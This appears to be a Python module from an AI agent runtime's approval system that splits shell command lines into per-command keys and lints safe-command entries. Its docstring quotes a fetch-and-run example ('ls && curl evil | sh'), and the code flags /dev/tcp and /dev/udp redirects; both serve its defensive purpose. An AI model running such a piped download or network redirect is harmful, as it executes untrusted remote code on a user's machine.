"""What a shell command line runs, as the reference runtime keys it for approvals.

The reference approves shell calls per *key*, one per command in a line, never per tool
name: approving `ls` must not approve `ls && curl evil | sh`. Its `[safe_commands] shell`
entries live in the same key space, so two lints need the same reading:

- `unparseable-safe-command`: an entry is usable only when the line reader turns it back
  into exactly itself (`cargo test` → `shell:cargo test`); `ls -la` keys as `shell:ls`, so
  no call can ever match the entry as written.
- `command-seed`: a seed command runs at spawn only when the default safe list covers every
  key of its line.

The reader is deliberately not a shell. Whatever it cannot read confidently (an unclosed
quote, a backtick, a heredoc, an expansion naming the program, `eval`) makes the whole line
unkeyable, which is the safe answer for an approval. Its grammar (keywords, builtins, what
folds into a key) follows the reference's `shell_keys` module; the code is ours.
"""

from __future__ import annotations

from dataclasses import dataclass, field

KEY_PREFIX = "shell:"

#: The commands the reference pre-approves out of the box (its `DEFAULT_SAFE_SHELL`).
DEFAULT_SAFE_SHELL: tuple[str, ...] = (
    # reading and listing
    "ls", "cat", "head", "tail", "wc", "cut", "tr", "grep", "egrep", "fgrep", "diff", "cmp",
    "file", "stat", "du", "df", "jq", "column", "od", "strings", "basename", "dirname",
    "realpath", "readlink", "pwd", "cd",
    # reporting
    "echo", "printf", "date", "seq", "sleep", "true", "false", "test", "which", "type",
    "uname", "hostname", "whoami", "id", "ps", "pgrep",
    # read-only git
    "git status", "git diff", "git log", "git show", "git branch", "git remote",
    "git rev-parse", "git blame", "git describe", "git ls-files",
)  # fmt: skip

#: Words introducing a compound command; the program follows them.
_PREFIX_KEYWORDS = frozenset({"if", "elif", "then", "else", "do", "while", "until", "!", "{", "}"})
#: Words that run nothing and bind nothing: the segment contributes no key.
_INERT_KEYWORDS = frozenset(
    {"for", "in", "case", "esac", "fi", "done", "select", "break", "continue", "return", "shift",
     "exit", "jobs", "disown", "wait", "set", "umask"}
)  # fmt: skip
#: Builtins that bind variables: each name becomes an `env:NAME` key.
_ENV_BINDING = frozenset({"export", "unset", "local", "readonly", "declare", "typeset"})
#: Builtins that install code to run later: the line cannot be keyed at all.
_CODE_INSTALLING = frozenset({"function", "trap", "alias", "unalias"})
#: Programs that run a command assembled at run time.
_UNREADABLE_PROGRAMS = frozenset({"eval", "source", "."})
#: Programs whose second word is data, never a narrowing subcommand.
_NEVER_FOLD = frozenset({"cd", "echo", "printf"})
#: Flags that let an otherwise read-only program write or run something.
_ESCAPE_FLAGS = {"git": ("--output",)}
#: Redirect targets that keep nothing.
_DISCARDING_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})
_NETWORK_TARGETS = ("/dev/tcp/", "/dev/udp/")


class _Unreadable(Exception):
    """The line holds a construct whose contents decide what runs."""


@dataclass
class _Word:
    text: str = ""
    #: Fully determined by the source text (no expansion).
    literal: bool = True
    #: Some part was quoted: the program's data, never a subcommand.
    quoted: bool = False


@dataclass
class _Segment:
    words: list[_Word] = field(default_factory=list)
    writes: list[_Word] = field(default_factory=list)


class _Lexer:
    """Splits a line into segments (commands) of words, with redirect targets held apart."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.i = 0
        self.segments: list[_Segment] = []
        self.current = _Segment()
        self.word: _Word | None = None
        #: What a pending redirect will do with the next word: "write", "other" or None.
        self.claim: str | None = None

    def peek(self, offset: int = 0) -> str:
        j = self.i + offset
        return self.text[j] if j < len(self.text) else ""

    def take(self) -> str:
        if self.i >= len(self.text):
            raise _Unreadable("unexpected end of line")
        c = self.text[self.i]
        self.i += 1
        return c

    def begin_word(self) -> _Word:
        if self.word is None:
            self.word = _Word()
        return self.word

    def end_word(self) -> None:
        if self.word is not None:
            if self.claim == "write":
                self.current.writes.append(self.word)
            elif self.claim is None:
                self.current.words.append(self.word)
            self.claim = None
        self.word = None

    def end_segment(self) -> None:
        self.end_word()
        self.claim = None  # `ls >` with nothing after the operator claims nothing
        self.segments.append(self.current)
        self.current = _Segment()

    def run(self) -> list[_Segment]:
        while self.i < len(self.text):
            c = self.take()
            if c == "'":
                word = self.begin_word()
                word.quoted = True
                while (q := self.take()) != "'":
                    word.text += q
            elif c == '"':
                self.double_quoted()
            elif c == "`":
                raise _Unreadable("backtick substitution")
            elif c == "\\":
                self.begin_word().text += self.take()
            elif c == "$":
                self.begin_word()
                self.dollar()
            elif c == "<" and self.peek() == "<":
                raise _Unreadable("heredoc")
            elif c in "<>":
                self.redirect(c)
            elif c == "&" and self.peek() == ">":
                self.i += 1
                self.end_word()
                self.claim = "write"
            elif c in ";&|\n()":
                if c in "&|" and self.peek() == c:
                    self.i += 1
                self.end_segment()
            elif c.isspace():
                self.end_word()
            else:
                self.begin_word().text += c
        self.end_segment()
        return self.segments

    def double_quoted(self) -> None:
        word = self.begin_word()
        word.quoted = True
        while True:
            c = self.take()
            if c == '"':
                return
            if c == "\\":
                escaped = self.take()
                word.text += escaped if escaped in '$"\\`' else "\\" + escaped
            elif c == "`":
                raise _Unreadable("backtick substitution")
            elif c == "$":
                self.dollar()
            else:
                word.text += c

    def dollar(self) -> None:
        """`$VAR` marks the word expanded; `$( … )` is a command of its own."""
        assert self.word is not None
        self.word.literal = False
        if self.peek() != "(":
            return
        self.i += 1
        if self.peek() == "(":  # $(( … )) is arithmetic: it runs nothing
            self.i += 1
            self.substitution()
            if self.take() != ")":
                raise _Unreadable("unbalanced arithmetic")
            return
        inner = self.substitution()
        self.segments.extend(_Lexer(inner).run())

    def substitution(self) -> str:
        depth, inner = 0, ""
        while True:
            c = self.take()
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    return inner
                depth -= 1
            inner += c

    def redirect(self, c: str) -> None:
        # A file descriptor written before the operator (`2>`) belongs to it.
        if self.word is not None and not all(ch in "0123456789" for ch in self.word.text):
            self.end_word()
        self.word = None
        if self.peek() == c:
            self.i += 1
        if c == ">" and self.peek() == "|":
            self.i += 1
        duplicate = self.peek() == "&"
        if duplicate:
            self.i += 1
        read_write = c == "<" and self.peek() == ">"
        if read_write:
            self.i += 1
        self.claim = "write" if not duplicate and (c == ">" or read_write) else "other"


def _write_target(word: _Word) -> str | None:
    """The key text of a redirect target; "" for a discarded write, None when unreadable."""
    if not word.literal:
        return None
    text = word.text
    if text in _DISCARDING_TARGETS or text.startswith("/dev/fd/") or text.upper() == "NUL":
        return ""
    if text.startswith(_NETWORK_TARGETS):
        return None
    return ">" + text


def _is_variable_name(name: str) -> bool:
    return (
        bool(name)
        and (name[0].isascii() and (name[0].isalpha() or name[0] == "_"))
        and all(ch.isascii() and (ch.isalnum() or ch == "_") for ch in name)
    )


def _segment_keys(words: list[_Word]) -> list[str]:
    """The keys one command contributes (empty when it runs nothing)."""
    keys: list[str] = []
    rest = words
    while rest:
        first = rest[0].text
        if first in _INERT_KEYWORDS:
            return keys
        if first in _CODE_INSTALLING:
            raise _Unreadable(f"'{first}' installs code")
        if first in _ENV_BINDING:
            for arg in rest[1:]:
                if arg.text.startswith(("-", "+")):
                    continue
                name = arg.text.split("=", 1)[0]
                if not arg.literal or not _is_variable_name(name):
                    raise _Unreadable("unreadable binding")
                keys.append(f"env:{name}")
            return keys
        if first in _PREFIX_KEYWORDS:
            rest = rest[1:]
            continue
        name, assigns, _ = first.partition("=")
        if assigns and _is_variable_name(name):
            keys.append(f"env:{name}")
            rest = rest[1:]
            continue
        break
    if not rest:
        return keys
    program = rest[0]
    if not program.literal or program.text in _UNREADABLE_PROGRAMS:
        raise _Unreadable("the program is not named")
    if any(word.text.startswith(flag) for word in rest[1:] for flag in _ESCAPE_FLAGS.get(program.text, ())):
        raise _Unreadable("an escape flag")
    operand = rest[1] if len(rest) > 1 else None
    if operand is not None and _folds(program.text, operand):
        keys.append(f"{program.text} {operand.text}")
    else:
        keys.append(program.text)
    return keys


def _folds(program: str, arg: _Word) -> bool:
    """Whether the second word narrows which program runs (`git diff`, `cargo test`)."""
    return (
        arg.literal
        and not arg.quoted
        and program not in _NEVER_FOLD
        and bool(arg.text)
        and not arg.text.startswith("-")
        and not arg.text[0].isdigit()
    )


def command_keys(command: str) -> list[str]:
    """The sorted keys covering `command`; empty when the line cannot be keyed or runs nothing."""
    try:
        segments = _Lexer(command).run()
        keys: set[str] = set()
        for segment in segments:
            keys.update(KEY_PREFIX + key for key in _segment_keys(segment.words))
            for target in segment.writes:
                written = _write_target(target)
                if written is None:
                    raise _Unreadable("unreadable redirect target")
                if written:
                    keys.add(KEY_PREFIX + written)
    except (_Unreadable, RecursionError):
        return []
    return sorted(keys)


def program_of(key: str) -> str:
    """A key without its folded subcommand: `shell:git diff` → `shell:git`."""
    return key.split(" ", 1)[0]


def is_valid_prefix(entry: str) -> bool:
    """A `[safe_commands] shell` entry is usable when it keys as exactly itself."""
    return not entry.startswith(">") and command_keys(entry) == [KEY_PREFIX + entry]


_DEFAULT_KEYS = frozenset(KEY_PREFIX + entry for entry in DEFAULT_SAFE_SHELL)


def default_safe_list_covers(command: str) -> bool:
    """Whether a stock install runs `command` without asking: every key of the line (or its
    program) is on the default safe list."""
    keys = command_keys(command)
    return bool(keys) and all(key in _DEFAULT_KEYS or program_of(key) in _DEFAULT_KEYS for key in keys)
